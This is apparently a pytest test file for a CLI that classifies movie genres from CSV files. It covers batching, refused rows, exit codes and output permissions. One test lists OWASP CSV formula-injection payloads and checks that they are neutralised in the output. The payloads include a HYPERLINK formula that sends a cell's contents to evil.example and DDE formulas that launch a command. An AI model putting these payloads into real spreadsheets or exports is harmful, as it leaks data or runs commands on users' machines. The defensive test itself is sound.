import csv
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from genre_model.movie_fields import MAX_TITLE_CHARS, MAX_WORD_CHARS
from movie_classifier.errors import RowsRefused
from movie_classifier.main import main
from tests.helpers.fake_api import Answer, fake_api, genres_body


def write(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as stream:
        writer = csv.DictWriter(stream, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def movies(count: int, column: str = "description") -> list[dict[str, str]]:
    return [{"title": f"Movie {i}", column: f"Plot number {i}."} for i in range(count)]


@pytest.mark.parametrize("column", ["description", "overview"])
def test_rows_go_out_in_input_order_with_bad_rows_reported(tmp_path: Path, column: str) -> None:
    rows = movies(23, column)
    rows[5][column] = "  "
    rows[17]["title"] = ""
    source = write(tmp_path / "in.csv", rows)
    with fake_api([Answer()]) as (url, received):
        result = CliRunner().invoke(
            main,
            [
                "--endpoint",
                url,
                "--file",
                str(source),
                "--output",
                str(tmp_path / "out.jsonl"),
                "--batch-size",
                "4",
                "--concurrency",
                "3",
            ],
        )
    assert result.exit_code == RowsRefused.exit_code == 11, result.output
    assert sorted(len(body["movies"]) for body in received) == [1, 4, 4, 4, 4, 4]
    lines = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert [line["row"] for line in lines] == list(range(1, 24))
    assert [line["title"] for line in lines] == [row["title"] for row in rows]
    assert lines[5]["error"] == "empty description" and "genre" not in lines[5]
    assert lines[17]["error"] == "empty title"
    assert lines[0]["genre"] == "Drama" and lines[0]["model_version"] == "fake-1"
    assert "21 of 23 rows classified" in result.output
    assert "row 6 skipped: empty description" in result.output
    assert result.output.splitlines()[-1] == (
        f"Error: 2 of 23 rows were refused, each with its 'error' in {tmp_path / 'out.jsonl'}; "
        "the other 21 are scored"
    )


def test_csv_output_has_a_column_per_score(tmp_path: Path) -> None:
    source = write(tmp_path / "in.csv", movies(3))
    with fake_api([Answer()]) as (url, _):
        result = CliRunner().invoke(
            main, ["--endpoint", url, "--file", str(source), "--output", str(tmp_path / "out.csv")]
        )
    assert result.exit_code == 0, result.output
    with (tmp_path / "out.csv").open() as stream:
        records = list(csv.DictReader(stream))
    assert [r["row"] for r in records] == ["1", "2", "3"]
    assert records[0]["score_Drama"] == "0.7" and records[0]["genres"] == "Drama"


def run_against(url: str, source: Path, output: Path, *extra: str) -> Result:
    arguments = ["--endpoint", url, "--file", str(source), "--output", str(output), *extra]
    return CliRunner().invoke(main, arguments)


def test_a_request_that_fails_whole_stops_the_run_and_keeps_the_rows_scored(
    tmp_path: Path,
) -> None:
    source = write(tmp_path / "in.csv", movies(10))
    output = tmp_path / "out.jsonl"
    answers = [Answer(), Answer(500, {"message": "Internal Server Error"})]
    with fake_api(answers) as (url, received):
        result = run_against(url, source, output, "--batch-size", "2", "--concurrency", "1")
    assert result.exit_code == 7
    assert len(received) == 2  # the chunks after the failure are never sent
    lines = [json.loads(line) for line in output.read_text().splitlines()]
    assert [line["row"] for line in lines] == list(range(1, 11))
    assert [line.get("genre") for line in lines[:2]] == ["Drama", "Drama"]
    assert all(line["error"].startswith("not run: the run stopped (") for line in lines[2:])
    assert "HTTP 500" in lines[2]["error"]
    assert "2 of 10 rows classified" in result.output
    assert "the run stopped there: the 2 rows scored before it are in" in result.output
    assert "the 8 rows not sent are marked 'not run'" in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.jsonl"]  # no temporary


def test_a_run_stopped_by_a_failed_request_keeps_its_code_though_rows_were_refused(
    tmp_path: Path,
) -> None:
    """Refused rows exit 11 only when nothing worse happened: the failure's own code wins."""
    rows = movies(6)
    rows[0]["description"] = ""
    source = write(tmp_path / "in.csv", rows)
    output = tmp_path / "out.jsonl"
    answers = [Answer(), Answer(500, {"message": "Internal Server Error"})]
    with fake_api(answers) as (url, _):
        result = run_against(url, source, output, "--batch-size", "2", "--concurrency", "1")
    assert result.exit_code == 7, result.output
    lines = [json.loads(line) for line in output.read_text().splitlines()]
    assert lines[0]["error"] == "empty description"
    assert "row 1 skipped: empty description" in result.output
    assert "rows were refused" not in result.output


def test_a_chunk_the_api_refuses_is_sent_again_row_by_row(tmp_path: Path) -> None:
    """A rule of the server's alone (the CLI's own checks pass the row) still lands on its row:
    the other rows of the chunk are scored."""
    rows = movies(10)
    rows[6]["title"] = "Movie FORBIDDEN"
    source = write(tmp_path / "in.csv", rows)
    output = tmp_path / "out.jsonl"
    with fake_api([Answer(refuse_title="FORBIDDEN")]) as (url, received):
        result = run_against(url, source, output, "--batch-size", "4", "--concurrency", "2")
    assert result.exit_code == RowsRefused.exit_code, result.output
    # The chunk of rows 5-8 is refused, then sent again row by row; the last chunk (rows 9-10)
    # passes whole.
    assert sorted(len(body["movies"]) for body in received) == [1, 1, 1, 1, 2, 4, 4]
    lines = [json.loads(line) for line in output.read_text().splitlines()]
    assert [line["row"] for line in lines if "genre" in line] == [1, 2, 3, 4, 5, 6, 8, 9, 10]
    assert lines[6]["error"] == "refused by the API: title: no FORBIDDEN"
    assert "9 of 10 rows classified" in result.output
    assert "row 7 skipped: refused by the API: title: no FORBIDDEN" in result.output


def test_rows_over_the_apis_limits_are_refused_before_sending(tmp_path: Path) -> None:
    rows = movies(5)
    rows[1]["title"] = "T" * (MAX_TITLE_CHARS + 1)
    rows[3]["description"] = "plot " + "w" * (MAX_WORD_CHARS + 1)
    source = write(tmp_path / "in.csv", rows)
    with fake_api([Answer()]) as (url, received):
        result = run_against(url, source, tmp_path / "out.jsonl")
    assert result.exit_code == RowsRefused.exit_code, result.output
    assert [len(body["movies"]) for body in received] == [3]
    assert f"row 2 skipped: title over {MAX_TITLE_CHARS} characters" in result.output
    assert f"row 4 skipped: description has a word over {MAX_WORD_CHARS} characters" in (
        result.output
    )


OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&C3,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path: Path) -> None:
    rows = [{"title": payload, "description": payload} for payload in OWASP_PAYLOADS]
    rows.append({"title": "Othello", "description": "A plain plot."})
    source = write(tmp_path / "in.csv", rows)
    with fake_api([Answer()]) as (url, _):
        neutral = run_against(url, source, tmp_path / "safe.csv")
        raw = run_against(url, source, tmp_path / "raw.csv", "--raw-csv")
    assert neutral.exit_code == raw.exit_code == 0, neutral.output + raw.output
    with (tmp_path / "safe.csv").open(newline="") as stream:
        safe = list(csv.DictReader(stream))
    with (tmp_path / "raw.csv").open(newline="") as stream:
        written = list(csv.DictReader(stream))
    for record, payload in zip(safe, OWASP_PAYLOADS, strict=False):
        assert record["title"] == record["description"] == "'" + payload
    assert safe[-1]["title"] == "Othello"  # anything else as it is
    # OWASP's rule: no cell of the file begins with = + - @ tab or carriage return.
    cells = [value for record in safe for value in record.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [record["title"] for record in written[:-1]] == OWASP_PAYLOADS


def test_an_output_in_a_folder_that_does_not_exist_is_refused_before_any_work(
    tmp_path: Path,
) -> None:
    source = write(tmp_path / "in.csv", movies(2))
    with fake_api([Answer()]) as (url, received):
        result = run_against(url, source, tmp_path / "no-such-folder" / "out.jsonl")
    assert result.exit_code == 2
    assert "the folder" in result.output and "does not exist" in result.output
    assert received == [] and not (tmp_path / "no-such-folder").exists()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--output", "x.jsonl"], "Missing option '--title'"),
        (["--file", "in.csv"], "--file needs --output"),
        (["--file", "in.csv", "--output", "o.jsonl", "--title", "x"], "either --file or --title"),
        (["--file", "in.csv", "--output", "o.txt"], "--output must end in .jsonl or .csv"),
        (["--file", "in.csv", "--output", "x.txt"], "--output must end in .jsonl or .csv: x.txt"),
        (["--file", "nope.csv", "--output", "o.jsonl"], "cannot read nope.csv: no such file"),
    ],
)
def test_usage_mistakes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str], message: str
) -> None:
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "in.csv", movies(2))
    result = CliRunner().invoke(main, ["--endpoint", "http://127.0.0.1:9", *args])
    assert result.exit_code == 2
    assert message in result.output
    assert not (tmp_path / "o.jsonl").exists() and not (tmp_path / "x.txt").exists()


def test_a_file_without_the_columns_is_refused(tmp_path: Path) -> None:
    source = write(tmp_path / "in.csv", [{"name": "x", "plot": "y"}])
    result = CliRunner().invoke(
        main, ["--file", str(source), "--output", str(tmp_path / "o.jsonl")]
    )
    assert result.exit_code == 1
    assert "needs a 'title' column and a 'description' (or 'overview') column" in result.output


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("", "in.csv is empty: it needs a header line and movies"),
        ("\n", "in.csv is empty: it needs a header line and movies"),
        ("title,description\n", "in.csv is empty: it has a header line but no movies"),
    ],
)
def test_an_empty_file_says_it_is_empty(tmp_path: Path, content: str, message: str) -> None:
    source = tmp_path / "in.csv"
    source.write_text(content)
    result = CliRunner().invoke(
        main, ["--file", str(source), "--output", str(tmp_path / "o.jsonl")]
    )
    assert result.exit_code == 1
    assert result.output.strip() == f"Error: {source.parent}/{message}"
    assert not (tmp_path / "o.jsonl").exists()


@pytest.fixture
def umask_022() -> Iterator[None]:
    previous = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(previous)


def run_file(source: Path, output: Path, url: str) -> None:
    result = CliRunner().invoke(
        main, ["--endpoint", url, "--file", str(source), "--output", str(output)]
    )
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("suffix", [".jsonl", ".csv"])
def test_a_new_output_file_gets_ordinary_permissions(
    tmp_path: Path, suffix: str, umask_022: None
) -> None:
    source = write(tmp_path / "in.csv", movies(3))
    output = tmp_path / f"out{suffix}"
    with fake_api([Answer()]) as (url, _):
        run_file(source, output, url)
    assert stat.S_IMODE(output.stat().st_mode) == 0o644
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", output.name]  # no temporary


def test_a_replaced_output_file_keeps_its_permissions(tmp_path: Path, umask_022: None) -> None:
    source = write(tmp_path / "in.csv", movies(3))
    output = tmp_path / "out.jsonl"
    output.write_text("old results\n")
    output.chmod(0o640)
    with fake_api([Answer()]) as (url, _):
        run_file(source, output, url)
    assert stat.S_IMODE(output.stat().st_mode) == 0o640
    assert "old results" not in output.read_text()


def test_an_output_that_cannot_be_written_is_one_line(tmp_path: Path) -> None:
    source = write(tmp_path / "in.csv", movies(2))
    output = Path("/proc/out.jsonl")  # a folder where no file can be made
    with fake_api([Answer()]) as (url, _):
        result = CliRunner().invoke(
            main, ["--endpoint", url, "--file", str(source), "--output", str(output)]
        )
    assert result.exit_code == 1
    (error,) = [line for line in result.output.splitlines() if line.startswith("Error:")]
    assert error.startswith(f"Error: cannot write {output}: ")
    assert "Traceback" not in result.output


def test_an_answer_with_another_number_of_results_stops_the_run(tmp_path: Path) -> None:
    source = write(tmp_path / "in.csv", movies(3))
    with fake_api([Answer(body=genres_body(2))]) as (url, _):
        result = run_against(url, source, tmp_path / "out.jsonl")
    assert result.exit_code == 7
    assert "answered 2 results for 3 movies" in result.output
    assert "Traceback" not in result.output
